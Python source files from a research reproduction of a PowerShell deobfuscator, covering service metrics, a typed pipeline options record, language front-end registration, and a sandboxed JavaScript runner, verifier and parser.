        verdict = (record.get("verify") or {}).get("verdict")
        if verdict:
            with self._gate:
                self.verify_counts[verdict] = (
                    self.verify_counts.get(verdict, 0) + 1
                )
            self.window.incr("verified")
            if verdict == "divergent":
                self.window.incr("divergent")
                _log.warning(
                    "verifier found divergent behavior",
                    path=record.get("path"),
                )
        cacheable = status in CACHEABLE_STATUSES
        self.cache.resolve(job.key, record, cacheable=cacheable)
        if self.persistence is not None and cacheable:
            if self.persistence.append(job.key, record):
                self.persistence.compact(self.cache.entries())
        job.record = record
        job.event.set()

    # -- introspection ------------------------------------------------------

    @property
    def queue_depth(self) -> int:
        """Admitted executions currently queued or running."""
        with self._gate:
            return self._admitted

    def healthz(self) -> Dict[str, Any]:
        """Liveness/readiness payload.

        The fleet router uses this as its readiness probe, so beyond
        liveness it reports capacity (queue depth vs limit, current
        autoscaled pool size) and warm-start state (how much of the
        persisted cache a restarted instance recovered, and how many
        corrupt journal records it had to skip).
        """
        from repro import package_version

        warm: Dict[str, Any] = {"enabled": False}
        if self.persistence is not None:
            warm = self.persistence.snapshot_counters()
        return {
            "status": "draining" if self._draining else "ok",
            "version": package_version(),
            "workers": self.pool.worker_count,
            "jobs": self.config.jobs,
            "pool_size": self.pool.jobs,
            "queue_depth": self.queue_depth,
            "queue_limit": self.config.queue_limit,
            "cache_entries": len(self.cache),
            "cache_shards": self.cache.shards,
            "warm_start": warm,
            "uptime_seconds": round(
                time.monotonic() - self._started_monotonic, 3
            ),
        }

    def metrics_snapshot(self) -> Dict[str, Any]:
        """Everything ``/metrics`` renders, as plain data."""
        with self._gate:
            counters = dict(self.counters)
            queue_depth = self._admitted
            pipeline = self.pipeline_totals.to_dict()
            verify_counts = dict(self.verify_counts)
            language_counts = dict(self.language_counts)
            policy_counts = dict(self.policy_counts)
            pipeline_hist = self.pipeline_hist.to_dict()
            request_hist = self.request_hist.to_dict()
            request_hist_by = {
                label: hist.to_dict()
                for label, hist in self.request_hist_by.items()
            }
        persistence: Dict[str, Any] = {"enabled": False}
        if self.persistence is not None:
            persistence = self.persistence.snapshot_counters()
        return {
            "counters": counters,
            "verify": verify_counts,
            "languages": language_counts,
            "policies": policy_counts,
            "pipeline_duration_histogram": pipeline_hist,
            "request_duration_histogram": request_hist,
            "request_duration_by": request_hist_by,
            "queue_depth": queue_depth,
            "queue_limit": self.config.queue_limit,
            "draining": self._draining,
            "cache": self.cache.snapshot(),
            "persistence": persistence,
            "worker_restarts": dict(self.pool.restarts),
            "workers": self.pool.worker_count,
            "pool_size": self.pool.jobs,
            "pipeline": pipeline,
            "uptime_seconds": round(
                time.monotonic() - self._started_monotonic, 3
            ),
        }

    def statusz(self) -> Dict[str, Any]:
        """The operator's live view — everything ``/statusz`` serves.

        Built from the metrics snapshot plus the rolling window and
        the recent ring-buffer log tail; the fleet router rebuilds the
        same shape from merged instance payloads
        (:func:`repro.service.metrics.build_statusz`).
        """
        from repro.service.metrics import build_statusz

        return build_statusz(
            self.metrics_snapshot(),
            window=self.window,
            log_events=log_tail(limit=40),
        )
