"""repro — a Python reproduction of Invoke-Deobfuscation (DSN 2022).

The package implements an AST-based, semantics-preserving deobfuscator for
PowerShell scripts together with every substrate it needs: a pure-Python
PowerShell lexer/parser/AST (:mod:`repro.pslang`), a sandboxed expression
interpreter (:mod:`repro.runtime`), the deobfuscation pipeline itself
(:mod:`repro.core`), an obfuscation toolkit used to build evaluation corpora
(:mod:`repro.obfuscation`), re-implementations of the baseline tools the
paper compares against (:mod:`repro.baselines`), obfuscation scoring
(:mod:`repro.scoring`), and measurement utilities (:mod:`repro.analysis`,
:mod:`repro.dataset`).

Quickstart::

    from repro import deobfuscate

    result = deobfuscate("I`E`X ('wri'+'te-host hi')")
    print(result.script)        # Write-Host hi
    print(result.layers)        # intermediate scripts, one per layer
"""

__version__ = "1.0.0"

_LAZY = {"Deobfuscator", "DeobfuscationResult", "deobfuscate"}


def __getattr__(name):
    """Lazily expose the pipeline API to avoid import cycles at bootstrap."""
    if name in _LAZY:
        from repro.core import pipeline

        return getattr(pipeline, name)
    raise AttributeError(f"module 'repro' has no attribute {name!r}")

__all__ = [
    "Deobfuscator",
    "DeobfuscationResult",
    "deobfuscate",
    "__version__",
]
