"""repro — a Python reproduction of Invoke-Deobfuscation (DSN 2022).

The package implements an AST-based, semantics-preserving deobfuscator for
PowerShell scripts together with every substrate it needs: a pure-Python
PowerShell lexer/parser/AST (:mod:`repro.pslang`), a sandboxed expression
interpreter (:mod:`repro.runtime`), the deobfuscation pipeline itself
(:mod:`repro.core`), a fault-contained worker pool for corpus-scale runs
(:mod:`repro.batch`), an obfuscation toolkit used to build evaluation corpora
(:mod:`repro.obfuscation`), re-implementations of the baseline tools the
paper compares against (:mod:`repro.baselines`), obfuscation scoring
(:mod:`repro.scoring`), measurement utilities (:mod:`repro.analysis`,
:mod:`repro.dataset`), and a differential semantics-preservation verifier
(:mod:`repro.verify`) that replays original and deobfuscated scripts in
the sandbox and compares their behaviour-event logs.

Pipeline knobs travel as one typed record, :class:`PipelineOptions`
(:mod:`repro.options`); the pre-1.3 ``**kwargs`` form still works for
one release with a :class:`DeprecationWarning`.

Quickstart::

    from repro import deobfuscate

    result = deobfuscate("I`E`X ('wri'+'te-host hi')")
    print(result.script)        # Write-Host hi
    print(result.layers)        # intermediate scripts, one per layer

For whole corpora, :class:`BatchPool` fans samples across worker
processes with per-sample timeouts and crash isolation — see
:mod:`repro.batch`.
"""

__version__ = "1.2.0"

_LAZY_PIPELINE = {"Deobfuscator", "DeobfuscationResult", "deobfuscate"}
_LAZY_BATCH = {"BatchPool", "run_batch"}
_LAZY_OBS = {"PipelineStats"}
_LAZY_OPTIONS = {"PipelineOptions"}
_LAZY_VERIFY = {"VerifyVerdict", "verify_equivalence", "verify_result"}


def package_version() -> str:
    """The installed distribution's version, falling back to the
    source tree's ``__version__`` when the package is not installed
    (e.g. running from a checkout via ``PYTHONPATH=src``)."""
    try:
        from importlib.metadata import version

        return version("repro")
    except Exception:  # noqa: BLE001 — any metadata failure → fallback
        return __version__


def __getattr__(name):
    """Lazily expose the pipeline API to avoid import cycles at bootstrap."""
    if name in _LAZY_PIPELINE:
        from repro.core import pipeline

        return getattr(pipeline, name)
    if name in _LAZY_BATCH:
        from repro import batch

        return getattr(batch, name)
    if name in _LAZY_OBS:
        from repro import obs

        return getattr(obs, name)
    if name in _LAZY_OPTIONS:
        from repro import options

        return getattr(options, name)
    if name in _LAZY_VERIFY:
        from repro import verify

        return getattr(verify, name)
    raise AttributeError(f"module 'repro' has no attribute {name!r}")

__all__ = [
    "Deobfuscator",
    "DeobfuscationResult",
    "PipelineOptions",
    "PipelineStats",
    "VerifyVerdict",
    "deobfuscate",
    "verify_equivalence",
    "verify_result",
    "BatchPool",
    "run_batch",
    "package_version",
    "__version__",
]
