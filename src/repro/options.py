"""The typed pipeline options record: :class:`PipelineOptions`.

One frozen dataclass is the single source of truth for every knob the
deobfuscation pipeline accepts.  Before this existed, the same option
set travelled as ``**kwargs`` through four independent surfaces — the
:class:`~repro.Deobfuscator` constructor, :func:`repro.deobfuscate`,
batch :class:`~repro.batch.Task` dicts, and the service cache key —
each with its own defaulting and no validation.  Now every surface
converts to :class:`PipelineOptions` at its boundary:

- the constructor takes ``Deobfuscator(options=PipelineOptions(...))``
  (the old ``**kwargs`` form still works for one release, with a
  :class:`DeprecationWarning`);
- CLI flags map through :meth:`from_cli_args` / :meth:`to_cli_flags`;
- batch tasks and service requests carry :meth:`to_dict` payloads and
  rebuild with :meth:`from_dict`;
- the service's content-addressed cache keys on
  :meth:`canonical_dict`, so two requests that *mean* the same options
  — defaults spelled out vs omitted, a legacy alias vs the canonical
  name — hash to the same entry.

The legacy alias table (``timeout`` → ``deadline_seconds``,
``step_limit`` → ``piece_step_limit``, ...) exists only for the
one-release compat window; new code should use the field names.
"""

import warnings
from dataclasses import asdict, dataclass, fields, replace
from typing import Any, Dict, List, Optional

DEFAULT_MAX_ITERATIONS = 10

# Old keyword spellings accepted (with a DeprecationWarning) by the
# **kwargs compat shim and silently by from_dict, so pre-redesign
# records and embedders keep working for one release.
LEGACY_ALIASES = {
    "timeout": "deadline_seconds",
    "step_limit": "piece_step_limit",
    "blocklist": "enforce_blocklist",
    "iterations": "max_iterations",
}


@dataclass(frozen=True)
class PipelineOptions:
    """Every knob of one :meth:`Deobfuscator.deobfuscate` run.

    The fields mirror the paper's design decisions (each one ablatable);
    see the :class:`~repro.Deobfuscator` docstring for what each does.
    Instances are frozen — derive variants with :meth:`replace`.
    """

    token_phase: bool = True
    ast_phase: bool = True
    trace_variables: bool = True
    trace_functions: bool = False
    multilayer: bool = True
    rename: bool = True
    reformat: bool = True
    enforce_blocklist: bool = True
    max_iterations: int = DEFAULT_MAX_ITERATIONS
    piece_step_limit: Optional[int] = None
    deadline_seconds: Optional[float] = None
    collect_spans: bool = True
    tag_techniques: bool = True
    # Memoize piece evaluations within one run (repro.runtime.memo):
    # structurally identical subtrees under identical bindings replay
    # their outcome instead of re-running the sandbox.  Off reproduces
    # the pre-memo pipeline exactly (the output is byte-identical either
    # way; only speed and the memo counters change).
    subtree_memo: bool = True

    # -- construction --------------------------------------------------------

    @classmethod
    def field_names(cls) -> frozenset:
        return frozenset(item.name for item in fields(cls))

    @classmethod
    def _map_names(cls, data: Dict[str, Any], strict: bool):
        """Resolve legacy aliases; return (mapped, aliases_used)."""
        known = cls.field_names()
        mapped: Dict[str, Any] = {}
        aliases_used: List[str] = []
        for name, value in data.items():
            if name in known:
                mapped[name] = value
            elif name in LEGACY_ALIASES:
                mapped[LEGACY_ALIASES[name]] = value
                aliases_used.append(name)
            elif strict:
                raise TypeError(f"unknown pipeline option {name!r}")
        return mapped, aliases_used

    @classmethod
    def from_kwargs(cls, **kwargs: Any) -> "PipelineOptions":
        """The one-release ``**kwargs`` compat shim.

        Maps legacy alias names onto their fields and warns that the
        keyword form is deprecated in favour of passing a
        :class:`PipelineOptions` instance.
        """
        mapped, aliases = cls._map_names(kwargs, strict=True)
        detail = (
            " (legacy name(s) " + ", ".join(sorted(aliases))
            + " were mapped)" if aliases else ""
        )
        warnings.warn(
            "keyword pipeline options are deprecated; pass "
            f"options=PipelineOptions(...) instead{detail}",
            DeprecationWarning,
            stacklevel=3,
        )
        return cls(**mapped)

    @classmethod
    def from_dict(
        cls, data: Optional[Dict[str, Any]], ignore_unknown: bool = False
    ) -> "PipelineOptions":
        """Rebuild from a :meth:`to_dict` / :meth:`canonical_dict`
        payload (or any option dict crossing a process or wire
        boundary).  Legacy aliases are mapped silently; unknown keys
        raise unless *ignore_unknown*."""
        mapped, _ = cls._map_names(dict(data or {}), strict=not ignore_unknown)
        return cls(**mapped)

    @classmethod
    def from_cli_args(cls, args: Any) -> "PipelineOptions":
        """Build from an argparse namespace of the CLI's shared flags
        (``--no-rename``, ``--no-reformat``, ``--timeout``)."""
        return cls(
            rename=not getattr(args, "no_rename", False),
            reformat=not getattr(args, "no_reformat", False),
            deadline_seconds=getattr(args, "timeout", None),
        )

    # -- serialization -------------------------------------------------------

    def to_dict(self) -> Dict[str, Any]:
        """The full field dict (canonical names, defaults included) —
        the wire form batch tasks and service requests carry."""
        return asdict(self)

    def canonical_dict(self) -> Dict[str, Any]:
        """Only the fields that differ from their defaults, keyed by
        canonical name.

        This is the cache-key form: equivalent constructions — defaults
        written out vs omitted, legacy aliases vs field names, any key
        order — produce byte-identical JSON, and adding a new option in
        a later release does not invalidate keys of runs that never set
        it.
        """
        out: Dict[str, Any] = {}
        for item in fields(self):
            value = getattr(self, item.name)
            if value != item.default:
                out[item.name] = value
        return out

    def to_cli_flags(self) -> List[str]:
        """The ``repro deobfuscate``-style flags that reproduce the
        CLI-exposed subset of these options (see :meth:`from_cli_args`)."""
        flags: List[str] = []
        if not self.rename:
            flags.append("--no-rename")
        if not self.reformat:
            flags.append("--no-reformat")
        if self.deadline_seconds is not None:
            flags.extend(["--timeout", str(self.deadline_seconds)])
        return flags

    # -- derivation ----------------------------------------------------------

    def replace(self, **changes: Any) -> "PipelineOptions":
        """A copy with *changes* applied (instances are frozen)."""
        return replace(self, **changes)
