"""The typed pipeline options record: :class:`PipelineOptions`.

One frozen dataclass is the single source of truth for every knob the
deobfuscation pipeline accepts.  Every surface converts to
:class:`PipelineOptions` at its boundary:

- the constructor takes ``Deobfuscator(options=PipelineOptions(...))``;
- CLI flags map through :meth:`from_cli_args` / :meth:`to_cli_flags`;
- batch tasks and service requests carry :meth:`to_dict` payloads and
  rebuild with :meth:`from_dict`;
- the service's content-addressed cache keys on
  :meth:`canonical_dict`, so two requests that *mean* the same options
  — defaults spelled out vs omitted, any key order — hash to the same
  entry.

The ``policy`` field names the :mod:`repro.policy` sandbox preset the
run executes under (``recovery-strict`` when unset); because the field
defaults to the preset every pre-policy run implicitly used,
``canonical_dict()`` — and therefore every existing cache key — is
unchanged for runs that never select one.
"""

from dataclasses import asdict, dataclass, fields, replace
from typing import Any, Dict, List, Optional

DEFAULT_MAX_ITERATIONS = 10


@dataclass(frozen=True)
class PipelineOptions:
    """Every knob of one :meth:`Deobfuscator.deobfuscate` run.

    The fields mirror the paper's design decisions (each one ablatable);
    see the :class:`~repro.Deobfuscator` docstring for what each does.
    Instances are frozen — derive variants with :meth:`replace`.
    """

    token_phase: bool = True
    ast_phase: bool = True
    trace_variables: bool = True
    trace_functions: bool = False
    multilayer: bool = True
    rename: bool = True
    reformat: bool = True
    enforce_blocklist: bool = True
    max_iterations: int = DEFAULT_MAX_ITERATIONS
    piece_step_limit: Optional[int] = None
    deadline_seconds: Optional[float] = None
    collect_spans: bool = True
    tag_techniques: bool = True
    # Memoize piece evaluations within one run (repro.runtime.memo):
    # structurally identical subtrees under identical bindings replay
    # their outcome instead of re-running the sandbox.  Off reproduces
    # the pre-memo pipeline exactly (the output is byte-identical either
    # way; only speed and the memo counters change).
    subtree_memo: bool = True
    # The sandbox-policy preset (repro.policy) the run executes under.
    # Normalized and validated at construction so an invalid name fails
    # at the API boundary, not deep inside a worker.
    policy: str = "recovery-strict"
    # The language front end (repro.frontend) the run parses and
    # recovers with.  Defaults to the paper's language; because the
    # default is omitted from canonical_dict(), every pre-language
    # cache key is unchanged for PowerShell runs.
    language: str = "powershell"

    def __post_init__(self):
        from repro.policy.presets import PRESETS, normalize_policy_name

        name = normalize_policy_name(self.policy or "recovery-strict")
        if name not in PRESETS:
            from repro.policy import PolicyError

            raise PolicyError(
                f"unknown policy {self.policy!r}; expected one of "
                + ", ".join(sorted(PRESETS))
            )
        object.__setattr__(self, "policy", name)
        from repro.frontend.registry import normalize_language

        # Raises FrontendError on an unknown name; aliases (ps1, js,
        # javascript, ...) normalize to the canonical front-end id.
        object.__setattr__(
            self, "language", normalize_language(self.language)
        )

    # -- construction --------------------------------------------------------

    @classmethod
    def field_names(cls) -> frozenset:
        return frozenset(item.name for item in fields(cls))

    @classmethod
    def from_dict(
        cls, data: Optional[Dict[str, Any]], ignore_unknown: bool = False
    ) -> "PipelineOptions":
        """Rebuild from a :meth:`to_dict` / :meth:`canonical_dict`
        payload (or any option dict crossing a process or wire
        boundary).  Unknown keys raise unless *ignore_unknown*."""
        known = cls.field_names()
        mapped: Dict[str, Any] = {}
        for name, value in dict(data or {}).items():
            if name in known:
                mapped[name] = value
            elif not ignore_unknown:
                raise TypeError(f"unknown pipeline option {name!r}")
        if mapped.get("policy") is None:
            mapped.pop("policy", None)
        if mapped.get("language") is None:
            mapped.pop("language", None)
        return cls(**mapped)

    @classmethod
    def from_cli_args(cls, args: Any) -> "PipelineOptions":
        """Build from an argparse namespace of the CLI's shared flags
        (``--no-rename``, ``--no-reformat``, ``--timeout``,
        ``--policy``)."""
        return cls(
            rename=not getattr(args, "no_rename", False),
            reformat=not getattr(args, "no_reformat", False),
            deadline_seconds=getattr(args, "timeout", None),
            policy=getattr(args, "policy", None) or "recovery-strict",
            language=getattr(args, "language", None) or "powershell",
        )

    # -- serialization -------------------------------------------------------

    def to_dict(self) -> Dict[str, Any]:
        """The full field dict (canonical names, defaults included) —
        the wire form batch tasks and service requests carry."""
        return asdict(self)

    def canonical_dict(self) -> Dict[str, Any]:
        """Only the fields that differ from their defaults, keyed by
        canonical name.

        This is the cache-key form: equivalent constructions — defaults
        written out vs omitted, any key order, a policy name spelled
        with different case — produce byte-identical JSON, and adding a
        new option in a later release does not invalidate keys of runs
        that never set it.
        """
        out: Dict[str, Any] = {}
        for item in fields(self):
            value = getattr(self, item.name)
            if value != item.default:
                out[item.name] = value
        return out

    def to_cli_flags(self) -> List[str]:
        """The ``repro deobfuscate``-style flags that reproduce the
        CLI-exposed subset of these options (see :meth:`from_cli_args`)."""
        flags: List[str] = []
        if not self.rename:
            flags.append("--no-rename")
        if not self.reformat:
            flags.append("--no-reformat")
        if self.deadline_seconds is not None:
            flags.extend(["--timeout", str(self.deadline_seconds)])
        if self.policy != "recovery-strict":
            flags.extend(["--policy", self.policy])
        if self.language != "powershell":
            flags.extend(["--language", self.language])
        return flags

    # -- derivation ----------------------------------------------------------

    def replace(self, **changes: Any) -> "PipelineOptions":
        """A copy with *changes* applied (instances are frozen)."""
        return replace(self, **changes)
