"""Language front ends for the deobfuscation core.

The pipeline's language-specific pieces — tokenizer/parser, AST
taxonomy, recoverable-node predicate, sandboxed evaluator factory,
reconstruction/rename/reformat hooks, technique telemetry — live
behind the :class:`Frontend` protocol (:mod:`repro.frontend.base`),
resolved by name through the registry
(:mod:`repro.frontend.registry`).  ``PipelineOptions.language`` names
the front end a run uses; ``powershell`` (the paper's language) is the
default, ``js`` is the minimal JavaScript front end proving the
interface with a second concrete language.

See ``docs/frontends.md`` for the interface contract and how to add a
language.
"""

from repro.frontend.base import (
    Frontend,
    FrontendCapabilities,
    UnwrapOutcome,
)
from repro.frontend.registry import (
    DEFAULT_LANGUAGE,
    FrontendError,
    available_frontends,
    frontend_names,
    normalize_language,
    register_frontend,
    resolve_frontend,
)

__all__ = [
    "DEFAULT_LANGUAGE",
    "Frontend",
    "FrontendCapabilities",
    "FrontendError",
    "UnwrapOutcome",
    "available_frontends",
    "frontend_names",
    "normalize_language",
    "register_frontend",
    "resolve_frontend",
]
