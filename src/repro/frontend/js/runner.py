"""Observing runner + differential verification for JavaScript.

The JS analogue of :mod:`repro.verify.observe` / :mod:`repro.verify.
equivalence`: run a script under budget, log its *observable* events —
``console.log`` output and calls to anything the sandbox does not model
— then compare the ordered event sequences of the original and the
deobfuscated candidate.  ``eval`` of a string executes the payload
recursively in the same scope (budget shared), which is exactly what
makes an eval-wrapped original and its unwrapped recovery log the same
events.
"""

import time
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

from repro.frontend.js import ast_nodes as N
from repro.frontend.js.errors import JsEvalError
from repro.frontend.js.evaluator import JsEvaluator, js_to_string
from repro.frontend.js.parser import try_parse
from repro.runtime.errors import EvaluationError, StepLimitError
from repro.runtime.limits import ExecutionBudget
from repro.verify.equivalence import DEFAULT_MAX_DIFF, VerifyVerdict

DEFAULT_STEP_LIMIT = 200_000
MAX_EVENTS = 10_000
# eval-in-eval nesting deeper than this is a decoder bomb, not a layer.
MAX_EVAL_DEPTH = 16

JsEvent = Tuple[str, Tuple[str, ...]]


@dataclass
class JsBehaviorLog:
    """What one scripted run did, in order."""

    events: List[JsEvent] = field(default_factory=list)
    error: str = ""
    invalid: bool = False
    timed_out: bool = False
    events_dropped: bool = False


class _ObservingRunner:
    """Execute a program's statements, recording observable events.

    Calls whose target the pure evaluator cannot resolve (``console.
    log``, ``alert``, ``document.write``, ...) become events rather
    than errors: arguments are evaluated, stringified and logged.  That
    is the entire observable surface of the subset — everything else is
    pure computation.
    """

    def __init__(self, budget: ExecutionBudget, log: JsBehaviorLog):
        self.budget = budget
        self.log = log
        self.environment: Dict[str, Any] = {}

    def run(self, source: str, depth: int = 0) -> None:
        ast, error = try_parse(source)
        if ast is None:
            raise JsEvalError(f"payload does not parse: {error}")
        for statement in ast.body:
            self._run_statement(statement, depth)

    def _run_statement(self, statement: N.JsNode, depth: int) -> None:
        self.budget.step()
        if isinstance(statement, N.Program):
            for child in statement.body:
                self._run_statement(child, depth)
            return
        if isinstance(statement, N.VariableDeclaration):
            value: Any = None
            if statement.init is not None:
                value = self._evaluate(statement.init, depth)
            self.environment[statement.name] = value
            return
        if isinstance(statement, N.ExpressionStatement):
            self._evaluate(statement.expression, depth, discard=True)
            return
        self._evaluate(statement, depth, discard=True)

    def _evaluate(
        self, node: N.JsNode, depth: int, discard: bool = False
    ) -> Any:
        if isinstance(node, N.AssignmentExpression) and isinstance(
            node.target, N.Identifier
        ):
            value = self._evaluate(node.value, depth)
            self.environment[node.target.name] = value
            return value
        if isinstance(node, N.CallExpression):
            handled, value = self._try_effect_call(node, depth)
            if handled:
                return value
        if isinstance(node, N.ParenExpression):
            return self._evaluate(node.expression, depth, discard=discard)
        evaluator = JsEvaluator(
            environment=self.environment, budget=self.budget
        )
        return evaluator.evaluate(node)

    def _try_effect_call(
        self, node: N.CallExpression, depth: int
    ) -> Tuple[bool, Any]:
        """Handle eval and observable (unmodelled) calls; returns
        ``(handled, value)`` — unhandled calls fall through to the pure
        evaluator."""
        name = self._callee_name(node.callee)
        if name is None:
            return False, None
        arguments = [self._evaluate(arg, depth) for arg in node.arguments]
        if name == "eval":
            if len(arguments) == 1 and isinstance(arguments[0], str):
                if depth >= MAX_EVAL_DEPTH:
                    raise JsEvalError("eval nesting too deep")
                self.run(arguments[0], depth + 1)
                return True, None
            # eval of a non-string returns it unchanged (JS semantics).
            return True, arguments[0] if arguments else None
        if self._is_observable(name):
            self._emit(name, arguments)
            return True, None
        return False, None

    def _callee_name(self, callee: N.JsNode) -> Optional[str]:
        """A dotted name for identifier/member callees, or None."""
        if isinstance(callee, N.ParenExpression):
            return self._callee_name(callee.expression)
        if isinstance(callee, N.Identifier):
            return callee.name
        if isinstance(callee, N.MemberExpression) and not callee.computed:
            base = self._callee_name(callee.object)
            if base is None:
                return None
            return f"{base}.{callee.property}"
        return None

    def _is_observable(self, name: str) -> bool:
        """A call is observable when its root object is not a traced
        variable — i.e. the pure evaluator could not model it anyway."""
        root = name.split(".", 1)[0]
        if root in ("parseInt", "parseFloat", "atob", "String", "Number"):
            return False
        return root not in self.environment

    def _emit(self, name: str, arguments: List[Any]) -> None:
        if len(self.log.events) >= MAX_EVENTS:
            self.log.events_dropped = True
            raise StepLimitError("event log overflow")
        rendered = tuple(js_to_string(arg) for arg in arguments)
        self.log.events.append((name, rendered))


def observe_js(
    script: str,
    step_limit: int = DEFAULT_STEP_LIMIT,
    policy: Any = None,
) -> JsBehaviorLog:
    """Run *script* under budget and return its behaviour log."""
    log = JsBehaviorLog()
    ast, error = try_parse(script)
    if ast is None:
        log.invalid = True
        log.error = error or "parse error"
        return log
    if policy is not None:
        from repro.policy import resolve_policy

        budget = ExecutionBudget.from_policy(
            resolve_policy(policy), step_limit=step_limit
        )
    else:
        budget = ExecutionBudget(step_limit=step_limit)
    runner = _ObservingRunner(budget, log)
    try:
        runner.run(script)
    except StepLimitError as exc:
        log.timed_out = True
        log.error = str(exc)
    except (JsEvalError, EvaluationError) as exc:
        log.error = str(exc)
    return log


def _describe(event: JsEvent) -> str:
    name, arguments = event
    return f"{name}({', '.join(arguments)})"


def verify_js_equivalence(
    original: str,
    candidate: str,
    step_limit: int = DEFAULT_STEP_LIMIT,
    policy: Any = None,
    max_diff: int = DEFAULT_MAX_DIFF,
) -> VerifyVerdict:
    """Differentially verify that *candidate* preserves *original*'s
    observable behaviour, with the PowerShell verifier's verdict
    semantics (divergent on a non-parsing candidate, inconclusive on
    truncated runs)."""
    started = time.perf_counter()
    first = observe_js(original, step_limit=step_limit, policy=policy)
    second = observe_js(candidate, step_limit=step_limit, policy=policy)

    def build(verdict: str, reason: str, diff: Tuple[str, ...] = ()):
        return VerifyVerdict(
            verdict=verdict,
            reason=reason,
            diff=diff,
            original_events=len(first.events),
            candidate_events=len(second.events),
            original_error=first.error,
            candidate_error=second.error,
            seconds=time.perf_counter() - started,
        )

    if second.invalid:
        return build("divergent", "deobfuscated script does not parse")
    if first.invalid:
        return build("inconclusive", "original script does not parse")
    for label, log in (("original", first), ("deobfuscated", second)):
        if log.timed_out:
            return build(
                "inconclusive", f"{label} script exhausted the step limit"
            )
        if log.error:
            return build(
                "inconclusive", f"{label} script failed: {log.error}"
            )
    if first.events == second.events:
        return build("equivalent", "")
    diff: List[str] = []
    from difflib import SequenceMatcher

    matcher = SequenceMatcher(
        a=first.events, b=second.events, autojunk=False
    )
    for op, a_lo, a_hi, b_lo, b_hi in matcher.get_opcodes():
        if op == "equal":
            continue
        diff.extend("- " + _describe(e) for e in first.events[a_lo:a_hi])
        diff.extend("+ " + _describe(e) for e in second.events[b_lo:b_hi])
    if len(diff) > max_diff:
        extra = len(diff) - max_diff
        diff = diff[:max_diff] + [f"… {extra} more difference(s)"]
    return build(
        "divergent",
        "observable event logs differ "
        f"({len(first.events)} vs {len(second.events)} events)",
        tuple(diff),
    )


def verify_js_result(
    result: Any,
    step_limit: int = DEFAULT_STEP_LIMIT,
    policy: Any = None,
) -> VerifyVerdict:
    """Verify a pipeline result, with the usual fast paths."""
    if not getattr(result, "valid_input", True):
        return VerifyVerdict(
            verdict="inconclusive", reason="original script does not parse"
        )
    if result.script == result.original:
        return VerifyVerdict(
            verdict="equivalent", reason="script unchanged by pipeline"
        )
    return verify_js_equivalence(
        result.original, result.script, step_limit=step_limit, policy=policy
    )
