"""Recursive-descent parser for the JavaScript subset.

Produces :mod:`repro.frontend.js.ast_nodes` trees whose extents are
byte-precise slices of the source — the invariant the in-place splicing
recovery relies on.  The grammar is the minimal closure of what the
commodity-obfuscator subset needs:

.. code-block:: text

    program    := statement*
    statement  := ('var'|'let'|'const') declarator (',' declarator)* ';'?
                | expression ';'?
    declarator := IDENT ('=' assignment)?
    assignment := conditional ('=' assignment)?
    additive   := multiplicative (('+'|'-') multiplicative)*
    ...        (usual precedence ladder down to)
    primary    := literal | IDENT | array | '(' assignment ')'
    postfix    := primary ('.' IDENT | '[' assignment ']' | call-args)*

Results are memoized through the shared :class:`~repro.caching.
SaltedLRUCache` under the ``"js"`` salt, mirroring (and isolated from)
the PowerShell parse cache.
"""

from typing import List, Optional, Tuple

from repro.caching import SaltedLRUCache
from repro.frontend.js import ast_nodes as N
from repro.frontend.js.errors import JsLexError, JsParseError
from repro.frontend.js.lexer import JsToken, JsTokenType, tokenize

_CACHE_SALT = "js"
_parse_cache = SaltedLRUCache()

# Binary precedence ladder, loosest first.  Comparison/equality/logical
# operators parse (so real-world guards do not break the tree) even
# though the evaluator only folds a pure subset of them.
_BINARY_LEVELS = (
    ("||",),
    ("&&",),
    ("===", "!==", "==", "!="),
    ("<", ">", "<=", ">="),
    ("+", "-"),
    ("*", "/", "%"),
)

_UNARY_OPERATORS = ("-", "+", "!", "typeof")


class _Parser:
    def __init__(self, source: str, tokens: List[JsToken]):
        self.source = source
        self.tokens = tokens
        self.pos = 0

    # -- token helpers -----------------------------------------------------

    def _peek(self, offset: int = 0) -> Optional[JsToken]:
        index = self.pos + offset
        return self.tokens[index] if index < len(self.tokens) else None

    def _next(self) -> JsToken:
        token = self._peek()
        if token is None:
            raise JsParseError("unexpected end of input")
        self.pos += 1
        return token

    def _at_punct(self, *texts: str) -> bool:
        token = self._peek()
        return (
            token is not None
            and token.type is JsTokenType.PUNCT
            and token.text in texts
        )

    def _at_keyword(self, *texts: str) -> bool:
        token = self._peek()
        return (
            token is not None
            and token.type is JsTokenType.KEYWORD
            and token.text in texts
        )

    def _expect_punct(self, text: str) -> JsToken:
        token = self._peek()
        if token is None:
            raise JsParseError(f"expected {text!r}, found end of input")
        if token.type is not JsTokenType.PUNCT or token.text != text:
            raise JsParseError(
                f"expected {text!r}, found {token.text!r} "
                f"at offset {token.start}"
            )
        return self._next()

    # -- grammar -----------------------------------------------------------

    def parse_program(self) -> N.Program:
        body: List[N.JsNode] = []
        while self._peek() is not None:
            body.append(self.parse_statement())
        start = body[0].start if body else 0
        end = body[-1].end if body else 0
        program = N.Program(start, end, body)
        program.link_parents()
        return program

    def _statement_end(self, end: int) -> int:
        """Fold an optional trailing ``;`` into the statement extent so
        splicing over a statement never strands its terminator."""
        if self._at_punct(";"):
            return self._next().end
        return end

    def parse_statement(self) -> N.JsNode:
        if self._at_keyword("var", "let", "const"):
            return self.parse_declaration()
        expression = self.parse_assignment()
        end = self._statement_end(expression.end)
        return N.ExpressionStatement(expression.start, end, expression)

    def parse_declaration(self) -> N.JsNode:
        keyword = self._next()
        declarations: List[N.VariableDeclaration] = []
        while True:
            name = self._next()
            if name.type is not JsTokenType.IDENT:
                raise JsParseError(
                    f"expected identifier after {keyword.text!r} "
                    f"at offset {name.start}"
                )
            init: Optional[N.JsNode] = None
            end = name.end
            if self._at_punct("="):
                self._next()
                init = self.parse_assignment()
                end = init.end
            declarations.append(N.VariableDeclaration(
                keyword.start, end, keyword.text, name.value, init
            ))
            if not self._at_punct(","):
                break
            self._next()
        end = self._statement_end(declarations[-1].end)
        for declaration in declarations:
            declaration.end = end
        if len(declarations) == 1:
            return declarations[0]
        # Comma lists keep one node per declarator; they share the full
        # statement extent so none of them is individually spliceable.
        block = N.Program(keyword.start, end, list(declarations))
        return block

    def parse_assignment(self) -> N.JsNode:
        left = self.parse_binary(0)
        if self._at_punct("=") and isinstance(
            left, (N.Identifier, N.MemberExpression)
        ):
            self._next()
            value = self.parse_assignment()
            return N.AssignmentExpression(
                left.start, value.end, left, value
            )
        return left

    def parse_binary(self, level: int) -> N.JsNode:
        if level >= len(_BINARY_LEVELS):
            return self.parse_unary()
        operators = _BINARY_LEVELS[level]
